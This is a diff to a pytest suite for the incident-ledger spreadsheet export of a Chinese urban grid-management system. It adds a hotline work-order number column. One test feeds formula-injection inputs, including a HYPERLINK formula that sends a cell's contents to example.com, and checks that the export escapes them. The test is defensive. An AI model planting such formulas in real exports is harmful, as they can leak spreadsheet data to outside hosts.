@@ -8,7 +8,7 @@ import uuid
 
 import pytest
 
-HEADINGS = ["编号", "上报时间", "来源", "类别编码", "类别", "描述", "状态", "区县", "乡镇（街道）",
+HEADINGS = ["编号", "上报时间", "来源", "来源工单编号", "类别编码", "类别", "描述", "状态", "区县", "乡镇（街道）",
             "村（社区）", "网格编码", "网格", "经度", "纬度", "入格方式", "处置部门", "加急时间", "处置时限",
             "结案时间", "按期结案", "警示", "满意度", "返工次数", "一次完成", "催办次数",
             "不纳入考核时间"]
@@ -60,7 +60,8 @@ def cases(clients, hierarchy, grids):
     command, department = clients["command"], clients["department"]
     grid, other = chiefs_grids(hierarchy, grids)[:2]
     reported = report(clients["worker"], grid, "路灯不亮", reported_at="2026-10-18T10:00:00+08:00")
-    dispatched = report(command, other, "井盖缺失")
+    number = f"GD{uuid.uuid4().int % 10**12:012d}"  # the hotline's 工单编号
+    dispatched = report(command, other, "井盖缺失", client_id=number, source="hotline")
     act(command, dispatched["id"], ("file", {}), ("dispatch", {"department": "T1"}),
         ("urge", {"note": "诉求人来电催促办理"}))
     closed = report(command, other, "暴露垃圾")
@@ -68,7 +69,8 @@ def cases(clients, hierarchy, grids):
     act(department, closed["id"], ("accept", {}), ("report_handled", {"note": "已清运"}))
     act(command, closed["id"], ("check", {}), ("check_pass", {}),
         ("follow_up", {"satisfaction": 5}), ("exempt", {"note": "同一诉求反复来电，已答复"}))
-    return {"grid": grid, "village": grid.village_code, "reported": reported["id"],
+    return {"grid": grid, "village": grid.village_code, "number": number,
+            "reported": reported["id"],
             "dispatched": dispatched["id"], "closed": closed["id"]}
 
 
@@ -94,6 +96,8 @@ def test_the_ledger_holds_each_case_the_list_finds_newest_first_in_chinese(api, 
         "", "", "", "", "", "0", "")
     assert (dispatched["状态"], dispatched["处置部门"], dispatched["警示"], dispatched["催办次数"]) == (
         "已派遣", "测试局", "绿灯", "1")
+    assert (dispatched["来源"], dispatched["来源工单编号"], reported["来源工单编号"]) == (
+        "12345热线", cases["number"], "")
     deadline = api.get(f"/incidents/{cases['dispatched']}").json()["handling_deadline"]
     assert dispatched["处置时限"] == _local_minute(deadline)
     assert (closed["状态"], closed["按期结案"], closed["满意度"], closed["返工次数"],
@@ -168,8 +172,10 @@ def test_a_cell_a_user_typed_is_text_in_a_spreadsheet_never_a_formula(api, cases
     typed = ['=HYPERLINK("http://example.com/?q="&A1,"详情")', "+86 138", "-1 度", "@SUM(A1)",
              "\t=1+1", '甲,乙\n"丙"；丁']
     ids = [report(api, cases["grid"], text)["id"] for text in typed]
-    rows = {int(r["编号"]): r["描述"] for r in ledger(api, grid=cases["grid"].code)}
-    assert [rows[i] for i in ids] == ["'" + t for t in typed[:5]] + [typed[5]]
+    numbered = report(api, cases["grid"], "编号以等号开头", client_id="=1+1", source="hotline")
+    rows = {int(r["编号"]): r for r in ledger(api, grid=cases["grid"].code)}
+    assert [rows[i]["描述"] for i in ids] == ["'" + t for t in typed[:5]] + [typed[5]]
+    assert rows[numbered["id"]]["来源工单编号"] == "'=1+1"
 
 
 @pytest.mark.parametrize("params,field", [({"status": "finished"}, "status"),
